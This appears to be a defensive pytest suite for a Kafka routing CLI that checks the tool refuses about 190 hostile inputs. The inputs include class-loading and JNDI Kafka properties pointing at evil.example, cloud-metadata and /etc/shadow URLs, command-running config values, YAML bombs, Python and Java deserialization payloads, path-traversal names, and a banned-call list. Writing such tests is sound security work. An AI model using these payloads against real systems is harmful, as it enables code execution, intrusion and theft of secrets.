"""The gate: about 190 numbered attempts to get code run, an address dialled, a file read or a secret shown.

P: Kafka client properties, which are code. C: the same through every command that takes them, with a canary in each.
N: stream names that lead elsewhere. Y: contract files that are bombs or programs. B: calls that this code must not
make. What the contract's parser does with each single form: tests/unit/contract. On a real cluster with a real
password: tests/integration/test_route_kafka_secure.py.
"""

from __future__ import annotations

import ast
import resource
import socket
import subprocess
import sys
import time
import tomllib
from pathlib import Path
from typing import TYPE_CHECKING, Any

import click
import pytest

from keylane.cli.main import _run, cli
from keylane.errors import ContractError, KeylaneError
from keylane.systems.kafka.access import kafka_access, read_properties

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

ROOT = Path(__file__).parents[2]
CANARY = "CANARY-0f3a-4711"


def numbered(letter: str, cases: list[Any]) -> list[Any]:
    return [pytest.param(case, id=f"{letter}{number:02d}") for number, case in enumerate(cases, 1)]


@pytest.fixture(autouse=True)
def _nothing_is_dialled(monkeypatch: pytest.MonkeyPatch) -> None:
    """To connect to anything is an error of the test."""

    def dialled(_socket: Any, address: Any) -> None:
        raise AssertionError(f"dialled {address}")

    monkeypatch.setattr(socket.socket, "connect", dialled)


# P: client properties

EVIL = "rmi://evil.example:1099/x"
PROPERTIES = [
    # Java classes to load, by their names or by the text of a login.
    ("sasl.jaas.config", f'com.sun.security.auth.module.JndiLoginModule required user.provider.url="{EVIL}";'),
    ("sasl.jaas.config", f'com.sun.security.auth.module.LdapLoginModule required userProvider="{EVIL}";'),
    ("sasl.jaas.config", 'org.apache.kafka.common.security.plain.PlainLoginModule required password="x";'),
    ("listener.name.sasl_ssl.plain.sasl.jaas.config", "x"),
    ("sasl.login.class", "evil.Login"),
    ("sasl.login.callback.handler.class", "evil.Handler"),
    ("sasl.client.callback.handler.class", "evil.Handler"),
    ("sasl.server.callback.handler.class", "evil.Handler"),
    ("principal.builder.class", "evil.Builder"),
    ("partitioner.class", "evil.Partitioner"),
    ("interceptor.classes", "evil.Interceptor"),
    ("partition.assignment.strategy.class", "evil.Assignor"),
    ("key.serializer", "evil.Serializer"),
    ("value.serializer", "evil.Serializer"),
    ("key.deserializer", "org.springframework.kafka.support.serializer.JsonDeserializer"),
    ("value.deserializer", "evil.Deserializer"),
    ("metric.reporters", "org.apache.kafka.common.metrics.JmxReporter"),
    ("auto.include.jmx.reporter", "true"),
    ("metrics.reporters", "evil.Reporter"),
    ("security.providers", "evil.Providers"),
    ("ssl.provider.class", "evil.Provider"),
    ("ssl.engine.factory.class", "evil.Factory"),
    ("sasl.oauthbearer.jwt.retriever.class", "evil.Retriever"),
    ("sasl.oauthbearer.jwt.validator.class", "evil.Validator"),
    ("config.providers", "file"),
    ("config.providers.file.class", "org.apache.kafka.common.config.provider.FileConfigProvider"),
    ("config.providers.file.param.allowed.paths", "/"),
    # Shared objects of librdkafka.
    ("plugin.library.paths", "/tmp/evil.so"),
    ("ssl.engine.location", "/tmp/evil.so"),
    ("ssl.engine.id", "dynamic"),
    ("ssl.providers", "evil"),
    # Addresses and files that the client would fetch by itself.
    ("sasl.oauthbearer.token.endpoint.url", "file:///etc/passwd"),
    ("sasl.oauthbearer.token.endpoint.url", "http://169.254.169.254/latest/meta-data/"),
    ("sasl.oauthbearer.jwks.endpoint.url", "file:///etc/shadow"),
    ("sasl.oauthbearer.jwks.endpoint.url", "ldap://evil.example/x"),
    ("sasl.oauthbearer.token.endpoint.url", "jar:http://evil.example/x.jar!/"),
    ("sasl.oauthbearer.assertion.file", "/etc/shadow"),
    ("sasl.oauthbearer.assertion.private.key.file", "/etc/shadow"),
    ("sasl.oauthbearer.config", "principal=admin"),
    ("enable.sasl.oauthbearer.unsecure.jwt", "true"),
    ("https.ca.location", "/etc/shadow"),
    ("schema.registry.url", EVIL),
    ("client.dns.lookup", "use_all_dns_ips"),
    ("bootstrap.servers", "evil.example:9092"),
    ("metadata.broker.list", "evil.example:9092"),
    ("bootstrap.controllers", "evil.example:9093"),
    # Commands.
    ("sasl.kerberos.kinit.cmd", "touch /tmp/pwned"),
    ("sasl.kerberos.keytab", "/etc/krb5.keytab"),
    # Secrets and keys that options of Spark would show.
    ("sasl.password", CANARY),
    ("sasl.password", "${env:A}${env:B}"),
    ("sasl.password", "${exec:cat /etc/shadow}"),
    ("sasl.password", "${http://evil.example}"),
    ("ssl.key.password", CANARY),
    ("ssl.keystore.password", CANARY),
    ("ssl.truststore.password", CANARY),
    ("ssl.keystore.key", CANARY),
    ("ssl.keystore.certificate.chain", CANARY),
    ("ssl.key.pem", CANARY),
    ("ssl.certificate.pem", CANARY),
    # What delivery depends on.
    ("transactional.id", "x"),
    ("enable.idempotence", "false"),
    ("acks", "0"),
    ("group.id", "x"),
    ("enable.auto.commit", "true"),
    ("max.in.flight.requests.per.connection", "99"),
    ("retries", "0"),
    # The same in disguise.
    ("SASL.JAAS.CONFIG", "x"),
    ("Sasl.Jaas.Config", "x"),
    (" sasl.jaas.config", "x"),
    ("kafka.sasl.jaas.config", "x"),
    ("producer.interceptor.classes", "x"),
    ("sasl.jaas.config\n", "x"),
    ("sasl.\u200bjaas.config", "x"),
    ("", "x"),
    ("error_cb", "x"),
    ("log_cb", "x"),
]


@pytest.mark.parametrize("given", numbered("P", PROPERTIES))
def test_a_property_that_runs_or_dials_or_shows_is_refused(given: tuple[str, str]) -> None:
    with pytest.raises(KeylaneError) as refused:
        kafka_access("b:9092", [given])
    assert refused.value.exit_code == 2
    assert CANARY not in str(refused.value)


@pytest.mark.parametrize(
    "text",
    numbered(
        "Q",
        [
            'x" required; evil.Module required y="',
            "x\\",
            'x\\" required; evil.Module required y="',
            'x\n"; evil.Module required y="',
            'x\r\n; }; KafkaServer { evil.Module required a="',
            "x\u2028y",
        ],
    ),
)
def test_no_password_ends_the_text_of_a_login(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("KAFKA_PASSWORD", text)
    login = [("security.protocol", "SASL_SSL"), ("sasl.mechanism", "PLAIN"), ("sasl.username", text)]
    found = kafka_access("b:9092", [*login, ("sasl.password", "${env:KAFKA_PASSWORD}")]).jaas()
    assert found is not None
    assert "\n" not in found
    assert "\r" not in found
    assert without_quoted(found) == (
        "KafkaClient { org.apache.kafka.common.security.plain.PlainLoginModule required username= password=; };"
    )


def without_quoted(text: str) -> str:
    """A login without its quoted parts, as Java's tokenizer takes them: a backslash takes the next character along."""
    out, at, is_quoted = "", 0, False
    while at < len(text):
        if is_quoted and text[at] == "\\":
            at += 1
        elif text[at] == '"':
            is_quoted = not is_quoted
        elif not is_quoted:
            out += text[at]
        at += 1
    assert not is_quoted
    return out


def test_twin_a_password_that_is_not_quoted_is_seen() -> None:
    assert "evil.Module" in without_quoted('a="x" required; evil.Module required y=""')


def test_secrets_of_a_file_are_read_and_nothing_is_run(tmp_path: Path) -> None:
    (tmp_path / "p").write_text("include /etc/passwd\n")
    with pytest.raises(KeylaneError, match="NAME=VALUE"):
        read_properties(str(tmp_path / "p"))


# C: every command that takes properties


def takers(command: click.Command, path: tuple[str, ...] = ()) -> Iterator[tuple[str, ...]]:
    """The commands that take client properties."""
    if isinstance(command, click.Group):
        context = click.Context(command)
        for name in command.list_commands(context):
            inner = command.get_command(context, name)
            assert inner is not None
            yield from takers(inner, (*path, name))
    if any("--kafka-file" in option.opts for option in command.params):
        yield path


TOPIC = "kafka://127.0.0.1:1/topic"
NEEDED: dict[tuple[str, ...], list[str]] = {
    ("identify",): [TOPIC, "-k", "key"],
    ("init",): [TOPIC, "--out", "{state}"],
    ("apply",): ["{contract}"],
    ("check",): ["{contract}", "--data", TOPIC],
    ("profile",): [TOPIC, "--key", "k"],
    ("plan",): [TOPIC, "--key", "k", "--lanes", "4"],
    ("brokers",): ["kafka://127.0.0.1:1"],
    ("find",): ["key", "--from", TOPIC],
    ("geo", "table"): [TOPIC, "--lanes", "4"],
    ("route",): ["{contract}", "--from", TOPIC, "--to", "kafka://127.0.0.1:1/other", "--state", "{state}"],
    ("verify",): ["-c", "{contract}", "--source", TOPIC, "--target", TOPIC],
    ("assign",): ["kafka://127.0.0.1:1", "--group", "g"],
    ("migrate", "plan"): ["{contract}", "{contract}", "--from", TOPIC],
    **{("migrate", verb): ["{contract}"] for verb in ("run", "status", "verify", "rollback")},
    ("aggregate",): ["--from", TOPIC, "--to", "{state}", "--queries", "kafka://127.0.0.1:1/queries"],
    ("aggregate", "verify"): [TOPIC],
    ("aggregate", "queries", "add"): ["{contract}", "--queries", TOPIC],
    ("aggregate", "queries", "list"): ["--queries", TOPIC],
    **{("aggregate", "queries", verb): ["q", "--queries", TOPIC] for verb in ("pause", "resume", "remove")},
    ("match",): ["--drivers", TOPIC, "--riders", TOPIC, "--radius", "1", "--to", "{state}"],
}
LOGIN = "security.protocol=SASL_SSL\nsasl.mechanism=PLAIN\nsasl.username=me\n"
FILES = {
    "plain password": f"{LOGIN}sasl.password={CANARY}\n",
    "login text": f'sasl.jaas.config=evil.Module required password="{CANARY}";\n',
    "token": f"sasl.oauthbearer.token.endpoint.url=file:///{CANARY}\n",
    "wrong name": f"sasl.pasword={CANARY}\n",
    "no login": "sasl.username=me\nsasl.password=${env:CANARY_OF_THE_TEST}\n",
}
CALLS = [(command, content) for command in NEEDED for content in FILES]


def test_every_command_that_takes_properties_is_tried() -> None:
    assert set(takers(cli)) == set(NEEDED)


@pytest.fixture
def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> Callable[..., Any]:
    spec = "{streams: [t], lanes: 15, key: {fields: [k]}, partitioner: kafka-java}"
    (tmp_path / "c.yaml").write_text(
        f"apiVersion: keylane/v1\nkind: RoutingContract\nmetadata: {{name: t}}\nspec: {spec}\n"
    )
    names = {"contract": tmp_path / "c.yaml", "state": tmp_path / "state"}

    def run(*arguments: str) -> tuple[int, str]:
        monkeypatch.setattr(sys, "argv", ["keylane", *(one.format(**names) for one in arguments)])
        code = _run()
        out, err = capsys.readouterr()
        return code, out + err

    return run


@pytest.mark.parametrize("call", numbered("C", CALLS))
def test_no_command_shows_or_keeps_what_it_refuses(
    call: tuple[tuple[str, ...], str], run: Callable[..., Any], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    command, content = call
    monkeypatch.setenv("CANARY_OF_THE_TEST", CANARY)
    properties = tmp_path / "kafka.properties"
    properties.write_text(FILES[content])
    code, shown = run(*command, *NEEDED[command], "--kafka-file", str(properties))
    # What is not a saved plan is refused before a cluster is thought of.
    assert code == (1 if command == ("apply",) else 2), shown
    assert CANARY not in shown
    kept = [path for path in tmp_path.rglob("*") if path.is_file() and CANARY in path.read_text(errors="replace")]
    assert kept in ([], [properties])
    assert not (tmp_path / "state").exists(), "refused before anything is written"


# N: names

NAMES = [
    *("..", ".", "../t", "../../etc/passwd", "/etc/passwd", "a/b", "a\\b", "./t", "t/.."),
    *("a\x00b", "a\nb", "a\x1b[31m", "~root", "$HOME", "`id`", "$(id)", "a;b", "a b", "*", "?"),
    *("-rf", "--help", ".hidden", "_dead", "=x", "stream=t", "%2e%2e%2f", "．．／", "t\u202e", "a" * 250, ""),
    *("file:///etc/passwd", "http://evil.example/x", "CON:"),
]


@pytest.mark.parametrize("name", numbered("N", NAMES))
def test_a_stream_name_that_leads_elsewhere_is_refused(name: str) -> None:
    import yaml

    from keylane.contract.parse import parse_contract

    spec = {"streams": [name], "lanes": 4, "key": {"fields": ["k"]}, "partitioner": "kafka-java"}
    document = {"apiVersion": "keylane/v1", "kind": "RoutingContract", "metadata": {"name": "t"}, "spec": spec}
    with pytest.raises(ContractError):
        parse_contract(yaml.safe_dump(document))


# Y: contract files

HEAD = "apiVersion: keylane/v1\nkind: RoutingContract\nmetadata: {name: t}\nspec: "
CONTRACTS = [
    # Bombs.
    "\n".join(["a0: &a0 [lol, lol]", *(f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 12))]),
    f"a: &a [{', '.join(['x'] * 9000)}]\nb: [{', '.join(['*a'] * 9000)}]",
    "a: &a [*a]",
    "&a {b: *a}",
    "[" * 100_000,
    "{a: " * 50_000,
    "- " * 100_000,
    "? " * 100_000,
    "a: " + "9" * 200_000,
    "a: " + "x" * 2_000_000,
    "\n".join(f"k{i}: 1" for i in range(100_000)),
    f"{HEAD}{{streams: [t], lanes: 99999999999999999999, key: {{fields: [k]}}, partitioner: kafka-java}}",
    f"{HEAD}{{streams: [{', '.join(f's{i}' for i in range(60_000))}], lanes: 4}}",
    # Programs.
    "!!python/object/apply:os.system ['touch /tmp/pwned']",
    "!!python/object/new:subprocess.Popen [[touch, /tmp/pwned]]",
    "!!python/name:os.system",
    "!!python/module:os",
    "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [http://evil.example]]]]",
    "!!binary aGVsbG8=",
    "!include /etc/passwd",
    "<<: !!python/object:os.environ {}",
    # Files, addresses and code by name.
    f"{HEAD}{{$ref: 'file:///etc/passwd'}}",
    f"{HEAD}{{include: /etc/passwd}}",
    f"{HEAD}{{streams: [t], lanes: 4, key: {{fields: [k]}}, partitioner: 'os.system'}}",
    f"{HEAD}{{streams: [t], lanes: 4, key: {{fields: ['{{{{7*7}}}}'], encoding: 'eval'}}, partitioner: kafka-java}}",
    f"{HEAD}{{streams: [t], lanes: 4, key: {{fields: [k]}}, partitioner: kafka-java, kafka: {{sasl.jaas.config: x}}}}",
    "\x00\x01\x02",
    "\ufeff---\n---\n---",
]


@pytest.mark.parametrize("text", numbered("Y", CONTRACTS))
def test_a_hostile_contract_is_refused_at_once(text: str, run: Callable[..., Any], tmp_path: Path) -> None:
    (tmp_path / "hostile.yaml").write_text(text, encoding="utf-8")
    begun = time.process_time()
    code, shown = run("check", str(tmp_path / "hostile.yaml"))
    assert time.process_time() - begun < 1
    assert code == 2
    assert len(shown) < 100_000
    assert "Traceback" not in shown


MEASURED = """
import resource, sys
from keylane.contract.parse import load_contract
from keylane.errors import ContractError
before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
for path in sys.argv[1:]:
    try:
        load_contract(path)
    except ContractError:
        continue
    sys.exit(path)
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)
"""


def test_all_of_them_together_take_little_memory(tmp_path: Path) -> None:
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss > 0
    paths = []
    for number, text in enumerate(CONTRACTS):
        paths.append(tmp_path / f"{number}.yaml")
        paths[-1].write_text(text, encoding="utf-8")
    command = [sys.executable, "-c", MEASURED, *map(str, paths)]
    done = subprocess.run(command, capture_output=True, text=True, check=True, timeout=120)
    assert int(done.stdout) < 100_000, "kilobytes"


# B: calls that this code must not make

BANNED_MODULES = {"pickle", "cloudpickle", "marshal", "shelve", "dill", "jsonpickle", "telnetlib", "ftplib", "imp"}
BANNED_CALLS = {"eval", "exec", "compile", "__import__", "os.system", "os.popen", "tempfile.mktemp", "os.tempnam"} | {
    *("yaml.load", "yaml.unsafe_load", "yaml.full_load", "yaml.load_all", "subprocess.getoutput"),
    *("subprocess.getstatusoutput", "asyncio.create_subprocess_shell", "pty.spawn", "os.chmod", "os.umask"),
    *("ssl._create_unverified_context", "hashlib.new", "pandas.read_pickle", "numpy.load", "np.load", "pd.read_pickle"),
}
#: `numpy.load` and friends are banned because they unpickle; these keywords because of what they turn off.
BANNED_KEYWORDS = {("shell", True), ("allow_pickle", True), ("verify", False), ("check_hostname", False)}


def banned(source: str) -> list[str]:
    """Every banned import, call and keyword of a source."""
    out = []
    for node in ast.walk(ast.parse(source)):
        if isinstance(node, ast.Import):
            out += [alias.name for alias in node.names if alias.name.partition(".")[0] in BANNED_MODULES]
        elif isinstance(node, ast.ImportFrom) and str(node.module).partition(".")[0] in BANNED_MODULES:
            out.append(str(node.module))
        elif isinstance(node, ast.Call):
            name = ast.unparse(node.func)
            out += [name] * (name in BANNED_CALLS)
            given = {(word.arg, word.value.value) for word in node.keywords if isinstance(word.value, ast.Constant)}
            out += [f"{word}={value!r}" for word, value in given & BANNED_KEYWORDS]
    return out


def test_no_source_makes_a_banned_call() -> None:
    sources = [*(ROOT / "src").rglob("*.py"), *(ROOT / "scripts").glob("*.py")]
    found = {str(path): banned(path.read_text(encoding="utf-8")) for path in sources}
    assert len(found) > 200
    assert {path: calls for path, calls in found.items() if calls} == {}


PLANTED = [
    *("import pickle", "from pickle import loads", "import cloudpickle as c", "import marshal", "import shelve"),
    *("eval('1')", "exec('1')", "compile('1', 'a', 'eval')", "__import__('os')", "os.system('id')", "os.popen('id')"),
    *("yaml.load(text)", "yaml.unsafe_load(text)", "tempfile.mktemp()", "subprocess.run('id', shell=True)"),
    *("subprocess.getoutput('id')", "np.load('x', allow_pickle=True)", "requests.get('x', verify=False)"),
    *("def f():\n    from cloudpickle import dumps", "ssl._create_unverified_context()"),
]


@pytest.mark.parametrize("source", numbered("B", PLANTED))
def test_a_planted_call_is_reported(source: str) -> None:
    assert banned(source) != []


def test_the_linter_looks_for_the_rest() -> None:
    """Ruff's rules on security are on for all that ships; what is left out in one line says why there."""
    settings = tomllib.loads((ROOT / "pyproject.toml").read_text(encoding="utf-8"))["tool"]["ruff"]["lint"]
    assert settings["select"] == ["ALL"]
    assert [rule for rule in settings["ignore"] if rule.startswith("S") and rule[1:2].isdigit()] == ["S101"]
    own = {path for path, rules in settings["per-file-ignores"].items() if "S" in rules}
    assert own == {"tests/**", "benchmarks/**"}


def test_it_is_as_large_as_it_says() -> None:
    assert len(PROPERTIES) + 6 + len(CALLS) + len(NAMES) + len(CONTRACTS) + len(PLANTED) > 190
